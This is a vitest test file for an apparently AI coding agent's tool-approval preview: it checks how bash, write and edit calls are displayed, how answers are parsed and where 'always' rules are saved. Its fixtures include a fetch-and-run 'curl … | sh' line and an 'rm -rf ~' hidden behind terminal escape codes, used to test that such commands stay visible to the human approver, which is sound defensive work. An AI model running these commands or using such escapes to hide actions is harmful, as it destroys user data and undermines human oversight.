import { describe, expect, it } from "vitest";
import {
  approvalQuestion,
  describeApproval,
  parseApprovalAnswer,
  parseRulePlace,
  RULE_PLACE_QUESTION,
  rulePlaceChoices,
} from "../../src/frontends/terminal/toolkit/approval-preview.js";

const call = (name: string, args: Record<string, unknown>) => ({
  type: "tool-call" as const,
  id: "c1",
  name,
  arguments: args,
});

describe("describeApproval", () => {
  it("shows a bash command whole, every line of it", () => {
    const command = `echo ${"a".repeat(200)} \\\n  && curl -s http://127.0.0.1:9/x | sh`;
    expect(describeApproval(call("bash", { command }))).toEqual([
      `  $ echo ${"a".repeat(200)} \\`,
      "      && curl -s http://127.0.0.1:9/x | sh",
    ]);
  });

  it("shows the start of what a write puts in the file and counts the rest", () => {
    const content = `${Array.from({ length: 15 }, (_, index) => `line ${index + 1}`).join("\n")}\n`;
    const lines = describeApproval(call("write", { path: "src/a.ts", content }));
    expect(lines[0]).toBe("  write src/a.ts (15 lines):");
    expect(lines.slice(1, 3)).toEqual(["    line 1", "    line 2"]);
    expect(lines.at(-1)).toBe("    … 3 more lines");
    expect(lines).toHaveLength(14);
  });

  it("shows the text an edit replaces and the text it puts in", () => {
    expect(
      describeApproval(
        call("edit", {
          path: "a.ts",
          old_string: "const a = 1;",
          new_string: "const a = 2;",
          replace_all: true,
        }),
      ),
    ).toEqual(["  edit a.ts (every occurrence):", "  - const a = 1;", "  + const a = 2;"]);
  });

  it("adds nothing for a short one-line command the tool-call line already shows whole", () => {
    expect(describeApproval(call("bash", { command: "npm test" }))).toEqual([]);
    expect(describeApproval(call("bash", { command: "a  b" }))).toEqual(["  $ a  b"]);
  });

  it("makes control characters visible so arguments cannot rewrite the question on screen", () => {
    const [line] = describeApproval(call("bash", { command: "ls\r\u001b[2Krm -rf ~" }));
    expect(line).toBe("  $ ls\\u000d\\u001b[2Krm -rf ~");
  });

  it("falls back to the arguments as JSON for a call it has no layout for", () => {
    expect(describeApproval(call("edit", { path: "a.ts", old: "x" }))).toEqual([
      "  {",
      '    "path": "a.ts",',
      '    "old": "x"',
      "  }",
    ]);
  });
});

describe("approval answers", () => {
  it("reads y, a and n (and the words), takes an empty answer as no, and anything else as no answer", () => {
    expect(["y", "Yes", "a", "ALWAYS", "n", "no", "", "  "].map(parseApprovalAnswer)).toEqual([
      "once",
      "once",
      "always",
      "always",
      "no",
      "no",
      "no",
      "no",
    ]);
    expect(parseApprovalAnswer("yy")).toBeUndefined();
    expect(parseApprovalAnswer("sure")).toBeUndefined();
  });

  it("asks a shorter question in a narrow terminal", () => {
    expect(approvalQuestion("bash", 120)).toBe("Allow? [y]es once · [a]lways for bash this session · [N]o: ");
    expect(approvalQuestion("bash", 40).length).toBeLessThan(40);
  });
});

describe("where an 'always' keeps its rules", () => {
  const files = { local: "/work/app/.panto/config.local.json", user: "/home/me/.panto/config.json" };

  it("says 'always' saves a rule when the question suggests one, and names the tool when not", () => {
    expect(approvalQuestion("bash", 120, true)).toBe("Allow? [y]es once · [a]lways (save a rule) · [N]o: ");
    expect(approvalQuestion("bash", 120, false)).toContain("[a]lways for bash this session");
  });

  it("shows each rule exactly as it will be written, then the session (the default), the local file and the user config with their paths", () => {
    expect(rulePlaceChoices(["Bash(npm run test:*)", "Bash(git diff:*)"], files)).toEqual([
      "  always allow Bash(npm run test:*), Bash(git diff:*)",
      "    [s] for this session only (Enter)",
      "    [l] in this project's local file, not committed: /work/app/.panto/config.local.json",
      "    [u] in your user config, every project: /home/me/.panto/config.json",
    ]);
    expect(RULE_PLACE_QUESTION).toBe("Keep it where? [S]ession/[l]ocal/[u]ser: ");
  });

  it("makes control characters in a rule from the model's command visible", () => {
    expect(rulePlaceChoices(["Bash(echo\u001b[2J:*)"], files)[0]).not.toContain("\u001b");
  });

  it("reads s, l, u (and the words), takes an empty answer as the session, and anything else as no answer", () => {
    expect(["s", "", "  ", "Session", "l", "LOCAL", "u", "user"].map(parseRulePlace)).toEqual([
      "session",
      "session",
      "session",
      "session",
      "local",
      "local",
      "user",
      "user",
    ]);
    expect(parseRulePlace("project")).toBeUndefined();
    expect(parseRulePlace("x")).toBeUndefined();
  });
});
